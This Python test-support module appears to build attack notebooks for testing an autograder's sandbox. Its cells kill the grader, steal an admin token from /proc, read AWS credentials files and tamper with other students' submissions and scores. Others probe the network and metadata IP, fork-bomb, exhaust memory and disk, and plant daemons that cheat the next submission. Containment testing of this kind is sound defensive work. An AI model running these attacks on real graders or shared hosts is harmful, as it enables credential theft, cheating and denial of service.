"""The cells of the attack notebooks that ``test_grading_attacks.py`` grades.

Each attack is a lab 01 notebook: a first cell that does some of the lab's own work (so the
attacker has something to be graded on), the attack, then more of the lab's work (so the test
sees that grading went on after it). An attack reports what it found as one line per cell,
``RESULT {json}``; ``Targets`` carries what it aims at (the grader's pid, the output folder, a
secret file...), written into the cells' source as literals.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

RESULT = "RESULT "
SOLUTION = Path(__file__).resolve().parents[2] / "solutions" / "01-sqs-basics.ipynb"
UNHIDE = (
    "sqs.change_message_visibility(QueueUrl=queue_url, "
    'ReceiptHandle=first["ReceiptHandle"], VisibilityTimeout=0)'
)

SETUP = """import json, os
import boto3

def report(**found):
    print("RESULT " + json.dumps(found, default=str))

sqs = boto3.client("sqs")
url = sqs.create_queue(QueueName="lab-standard-queue")["QueueUrl"]"""

SEND = """for i in range(3):
    sqs.send_message(QueueUrl=url, MessageBody=json.dumps({"name": str(i), "age": i}))"""


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at, all outside the sandbox (none of it under /tmp)."""

    grader_pid: int
    out_dir: str
    secret_file: str  # a credentials file, as the instructor's ~/.aws/credentials
    secret_json: str  # a JSON file with the secret in it, in Lambda's error-document shape
    other_notebook: str  # another student's submission
    marker: str  # put in the argv of every process an attack leaves behind
    heartbeat: str  # where a daemon left behind would write, outside the sandbox
    foreign_port: int  # a backend on this machine that is not the submission's
    foreign_gate: str  # that backend's gate socket
    abstract_socket: str  # an abstract Unix socket the test listens on


def fill(source: str, targets: Targets, handler: str = "") -> str:
    """``source`` with each ``T.name`` replaced by the literal value of ``targets.name``,
    ``DAEMON_SOURCE`` by the planting daemon's source and ``HANDLER_SOURCE`` by ``handler``'s
    (its targets filled in)."""
    source = source.replace("DAEMON_SOURCE", repr(DAEMON))
    if "HANDLER_SOURCE" in source:
        source = source.replace("HANDLER_SOURCE", repr(fill(handler, targets)))
    return re.sub(r"\bT\.(\w+)\b", lambda m: repr(getattr(targets, m.group(1))), source)


def notebook(path: Path, cells: list[str], targets: Targets, handler: str = "") -> Path:
    """Write a lab 01 notebook of these code cells, the targets (and ``handler``) filled in."""
    nb = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(fill(c, targets, handler)) for c in cells],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "course": {"lab": "01"},
        },
    )
    nbformat.write(nb, path)
    return path


def right_notebook(path: Path) -> Path:
    """The lab 01 solution without its 11-second sleep (it scores 10/10): the message is made
    visible again at once instead of waiting out its visibility timeout."""
    nb = nbformat.read(SOLUTION, as_version=4)
    for cell in nb.cells:
        cell.source = cell.source.replace("time.sleep(11)", UNHIDE)
    nbformat.write(nb, path)
    return path


def reported(nb: Any) -> dict[str, Any]:
    """Everything the executed notebook's cells reported, merged."""
    found: dict[str, Any] = {}
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            for line in str(out.get("text", "")).splitlines():
                if line.startswith(RESULT):
                    found.update(json.loads(line[len(RESULT) :]))
    return found


def printed(nb: Any) -> str:
    """All of the executed notebook's outputs, as text."""
    return json.dumps([cell.get("outputs", []) for cell in nb.cells])


# -------------------------------------------------------------------------------- attacks

KILL = """import glob, signal, time
seen, other_kernels = {"parent": os.getppid(), "grader": T.grader_pid}, []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    pid = int(path.split("/")[2])
    try:
        argv = open(path, "rb").read().split(b"\\0")
    except OSError:
        continue
    if b"course.backend" in argv and str(T.grader_pid).encode() in argv:
        seen[f"backend {pid}"] = pid  # this grader's own backends
    if argv[1:3] == [b"-m", b"ipykernel_launcher"] and pid != os.getpid():
        other_kernels.append(pid)  # only looked at: kernels of other submissions
sent = {}
for name, pid in seen.items():
    try:
        os.kill(pid, signal.SIGKILL)
        sent[name] = "sent"
    except OSError as e:
        sent[name] = type(e).__name__
time.sleep(1)
report(kill=sent, other_kernels=other_kernels)"""

STEAL_TOKEN = """import glob, urllib.request
readable, tokens = 0, []
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        env = open(path, "rb").read().split(b"\\0")
    except OSError:
        continue
    readable += 1
    tokens += [v.split(b"=", 1)[1].decode() for v in env if v.startswith(b"COURSE_ADMIN_TOKEN=")]

def reset(token):
    headers = {} if token is None else {"X-Course-Admin": token}
    request = urllib.request.Request(
        os.environ["AWS_ENDPOINT_URL"] + "/_course/reset", data=b"", method="POST",
        headers=headers,
    )
    try:
        return urllib.request.urlopen(request).status
    except urllib.error.HTTPError as e:
        return e.code

report(
    environ_files=readable,
    tokens=len(tokens),
    stolen=[reset(token) for token in set(tokens)],
    guessed=[reset(token) for token in (None, "", "0" * 32)],
)"""

OUT_FOLDER = """found = {}
def attempt(name, action):
    try:
        found[name] = action()
    except OSError as e:
        found[name] = type(e).__name__
def write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return "written"
attempt("list", lambda: os.listdir(T.out_dir))
attempt("write", lambda: write(os.path.join(T.out_dir, "fake.json"), '{"score": 1000}'))
attempt("tamper", lambda: write(T.other_notebook, "{}"))
report(out=found)"""

READ_SECRETS = """import glob
found = {}
for name, path in [("credentials", T.secret_file), ("notebook", T.other_notebook),
                   ("root-aws", "/root/.aws/credentials")]:
    try:
        found[name] = open(path).read()
    except OSError as e:
        found[name] = type(e).__name__
host = glob.glob("/tmp/course-grade-*/*") + glob.glob("/tmp/course-backend-*/*")
host += glob.glob("/tmp/course-slot-*/*") + glob.glob("/tmp/pytest-of-*/*")
from ipykernel import get_connection_file
own = os.path.dirname(json.load(open(get_connection_file()))["ip"])
host += [p for p in glob.glob("/tmp/course-kernel-*") if p != own]
report(secrets=found, host_tmp=host)"""

LEAVE_PROCESSES = """import subprocess, sys
subprocess.Popen(["sleep", T.marker], start_new_session=True)
daemon = '''import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for _ in range(600):
    try:
        with open(sys.argv[2], "a") as f:
            f.write(".")
    except OSError:
        pass
    time.sleep(0.2)
'''
subprocess.run([sys.executable, "-c", daemon, T.marker, T.heartbeat], check=True)
report(left="sleep and a daemon")"""

NETWORK = """import socket, time
def reach(address, family=socket.AF_INET):
    started = time.monotonic()
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.close()
        return "connected"
    except OSError as e:
        return f"{type(e).__name__} in {time.monotonic() - started:.2f} s"
own = int(os.environ["AWS_ENDPOINT_URL"].rsplit(":", 1)[1])
found = {"own": reach(("127.0.0.1", own))}
for port in (T.foreign_port, 22, 80, 5000, 8888):
    found[f"loopback {port}"] = reach(("127.0.0.1", port))
for host in ("10.0.0.1", "8.8.8.8", "169.254.169.254"):
    found[host] = reach((host, 80))
found["foreign gate"] = reach(T.foreign_gate, socket.AF_UNIX)
found["abstract"] = reach("\\0" + T.abstract_socket, socket.AF_UNIX)
try:
    socket.getaddrinfo("example.com", 80)
    found["dns"] = "resolved"
except OSError as e:
    found["dns"] = type(e).__name__
gate = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
gate.settimeout(5)
gate.connect("/run/course/gate.sock")
gate.sendall(f"{T.foreign_port}\\n".encode() + b"GET /_course/health HTTP/1.0\\r\\n\\r\\n")
try:
    found["gate to foreign"] = gate.recv(100).decode() or "closed"
except OSError as e:
    found["gate to foreign"] = type(e).__name__
report(network=found)"""

CLOSE_CHANNELS = """kernel = get_ipython().kernel
kernel.iopub_socket.close()
kernel.shell_stream.close()"""

LAMBDA_HANDLER = """import glob, json, os, signal, socket, subprocess, sys

def attempt(action):
    try:
        return action()
    except OSError as e:
        return type(e).__name__

def write(path):
    with open(path, "w") as f:
        f.write("{}")
    return "written"

def result_path():
    spec = open("/proc/self/cmdline", "rb").read().split(b"\\0")[-2].decode()
    return json.load(open(spec))["result_path"]

def fork(count):
    made = 0
    try:
        for _ in range(count):
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", T.marker])
            made += 1
    except OSError as e:
        return f"{made} then {type(e).__name__}"
    return made

FILLED = []

def fill(folder, keep=False):
    # MiB written into folder (4 MiB files, up to 24); with keep the files stay until empty(),
    # so filling one folder after another measures what they hold together.
    names = [f"{folder}/attack-{T.marker}-{i}" for i in range(6)]
    written = 0
    try:
        for name in names:
            with open(name, "wb") as f:
                FILLED.append(name)
                f.write(b"x" * (4 << 20))
            written += 4
    except OSError:
        pass
    if not keep:
        empty()
    return written

def empty():
    while FILLED:
        name = FILLED.pop()
        attempt(lambda: os.remove(name))

def memory():
    hog = []
    try:
        while len(hog) < 16:
            hog.append(b"x" * (64 << 20))
    except MemoryError:
        pass
    return 64 * len(hog)

def probe():
    tokens = 0
    for path in glob.glob("/proc/[0-9]*/environ"):
        tokens += b"COURSE_ADMIN_TOKEN=" in (attempt(lambda: open(path, "rb").read()) or b"")
    subprocess.Popen(["sleep", T.marker], start_new_session=True)
    return {
        "credentials": attempt(lambda: open(T.secret_file).read()),
        "notebook": attempt(lambda: open(T.other_notebook).read()),
        "tokens": tokens,
        "kill grader": attempt(lambda: os.kill(T.grader_pid, signal.SIGKILL) or "sent"),
        "out": attempt(lambda: write(os.path.join(T.out_dir, "fake-lambda.json"))),
        "foreign": attempt(lambda: socket.create_connection(("127.0.0.1", T.foreign_port), 1)
                           and "connected"),
    }

def lambda_handler(event, context):
    if event.get("symlink"):
        os.symlink(T.secret_json, result_path())
        sys.stdout.flush()
        os._exit(0)
    if event.get("fork"):
        return {"forks": fork(event["fork"])}
    if event.get("disk"):
        run = os.path.dirname(result_path())
        written = {"tmp": fill("/tmp", keep=True), "run folder": fill(run, keep=True),
                   "root": fill("/", keep=True)}
        empty()
        return written
    if event.get("memory"):
        return {"memory_mib": memory()}
    return probe()
"""

LAMBDA_SETUP = """import io, zipfile
iam = boto3.client("iam")
lam = boto3.client("lambda")
trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
         "Principal": {"Service": "lambda.amazonaws.com"}}]}
role = iam.create_role(RoleName="attacker", AssumeRolePolicyDocument=json.dumps(trust))
code = io.BytesIO()
with zipfile.ZipFile(code, "w") as archive:
    archive.writestr("lambda_function.py", HANDLER)
lam.create_function(
    FunctionName="attacker", Runtime="python3.12", Role=role["Role"]["Arn"], Timeout=20,
    Handler="lambda_function.lambda_handler", Code={"ZipFile": code.getvalue()},
)
def invoke(event):
    answer = lam.invoke(FunctionName="attacker", Payload=json.dumps(event))
    return json.loads(answer["Payload"].read())"""


def lambda_cells(**events: str) -> list[str]:
    """Cells that deploy the attacking handler, then for each event ``report(name=invoke(event))``
    (and the lab's work after them)."""
    deploy = "HANDLER = HANDLER_SOURCE\n" + LAMBDA_SETUP
    return [SETUP, deploy, *(f"report({name}=invoke({e}))" for name, e in events.items()), SEND]


#: The containment attacks, longest first (the closed channels wait out a time limit).
ATTACKS: dict[str, list[str]] = {
    "channels": [SETUP, CLOSE_CHANNELS, SEND],
    "kill": [SETUP, KILL, SEND],
    "token": [SETUP, STEAL_TOKEN, SEND],
    "out-folder": [SETUP, OUT_FOLDER, SEND],
    "secrets": [SETUP, READ_SECRETS, SEND],
    "leftovers": [SETUP, LEAVE_PROCESSES, SEND],
    "network": [SETUP, NETWORK, SEND],
}

# ------------------------------------------------------------------ attacks on the caps

SIX_GIB = """try:
    hog = bytearray(6 << 30)
    report(six_gib="allocated")
    del hog
except MemoryError:
    report(six_gib="MemoryError")"""

MEMORY = """hog = []
try:
    while len(hog) < 100:
        hog.append(b"x" * (64 << 20))
finally:
    report(memory_mib=64 * len(hog))
    hog.clear()"""

FILL_DISK = """names = [f"{folder}/attack-{T.marker}-{i}"
         for folder in ("/tmp", os.path.expanduser("~")) for i in range(13)]
written = 0
try:
    for name in names:
        with open(name, "wb") as f:
            f.write(b"x" * (4 << 20))
        written += 4
finally:
    report(disk_mib=written)
    for name in names:
        if os.path.exists(name):
            os.remove(name)"""

WRITE_OUTSIDE = """import sys
import course

def writable(path):
    existed = os.path.exists(path)
    try:  # opened for writing, nothing written: harmless even where it works
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600))
    except OSError as e:
        return type(e).__name__
    if not existed:
        os.remove(path)
    return "writable"

paths = ("/usr/attack-" + T.marker, course.__file__, sys.prefix + "/attack-" + T.marker,
         T.secret_file)
report(outside={path: writable(path) for path in paths})"""

FILL_ELSEWHERE = """found = {}
for folder in ("/", "/etc", "/work", "/run", "/dev/shm", "/home", "/root"):
    names = [f"{folder}/attack-{T.marker}-{i}" for i in range(6)]
    written = 0
    try:
        for name in names:
            with open(name, "wb") as f:
                f.write(b"x" * (4 << 20))
            written += 4
    except OSError:
        pass
    finally:
        for name in names:
            try:
                os.remove(name)
            except OSError:
                pass
    found[folder] = written
report(elsewhere_mib=found)"""

FILE_SIZE = """big = "/tmp/attack-" + T.marker
try:
    with open(big, "wb") as f:
        f.write(b"x" * (12 << 20))
finally:
    report(file_size=os.path.getsize(big))
    os.remove(big)"""

FORK_BOMB = """children = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", T.marker])
        children += 1
finally:
    report(children=children)"""

BUSY = """while True:
    pass"""

BUSY_IGNORING_SIGXCPU = """import signal
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
while True:
    pass"""

#: Attacks on the caps, graded under small caps (``test_grading_attacks.TIGHT``), longest first.
CAP_ATTACKS: dict[str, list[str]] = {
    "cpu-ignoring-sigxcpu": [SETUP, BUSY_IGNORING_SIGXCPU, SEND],
    "cpu": [SETUP, BUSY, SEND],
    "lambda": lambda_cells(
        probe='{"probe": True}',
        symlink='{"symlink": True}',
        fork='{"fork": 200}',
        disk='{"disk": True}',
        memory='{"memory": True}',
    ),
    "memory": [SETUP, SIX_GIB, MEMORY, SEND],
    "disk": [SETUP, FILL_DISK, WRITE_OUTSIDE, SEND],
    "disk-elsewhere": [SETUP, FILL_ELSEWHERE, SEND],
    "file-size": [SETUP, FILE_SIZE, SEND],
    "fork-bomb": [SETUP, FORK_BOMB, SEND],
}

# ------------------------------------------------------- attacks on the next submission

#: A daemon (forked twice, in a session of its own) that does lab 01's work for 40 s, again and
#: again, in whatever backend ``AWS_ENDPOINT_URL`` names.
DAEMON = """import json, os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
import boto3
sqs = boto3.client("sqs")
attributes = {"VisibilityTimeout": "10", "MessageRetentionPeriod": "345600", "DelaySeconds": "0",
              "MaximumMessageSize": "262144", "ReceiveMessageWaitTimeSeconds": "5"}
end = time.time() + 40
while time.time() < end:
    try:
        url = sqs.create_queue(QueueName="lab-standard-queue", Attributes=attributes)["QueueUrl"]
        for i in range(3):
            sqs.send_message(QueueUrl=url, MessageBody=json.dumps({"name": "x", "age": i}))
    except Exception:
        pass
    time.sleep(0.3)
"""

PLANT_FROM_KERNEL = """import subprocess, sys
subprocess.run([sys.executable, "-c", DAEMON_SOURCE, T.marker], check=True)"""

PLANT_HANDLER = """import subprocess, sys

def lambda_handler(event, context):
    subprocess.run([sys.executable, "-c", DAEMON_SOURCE, T.marker], check=True)
    return "planted"
"""

#: A submission that leaves processes behind to plant the lab's work in the next submission's
#: backend (its slot's backend is reused), from its kernel and from a Lambda handler.
PLANT = [
    SETUP,
    PLANT_FROM_KERNEL,
    "HANDLER = HANDLER_SOURCE\n" + LAMBDA_SETUP,
    "report(planted=invoke({}))",
]
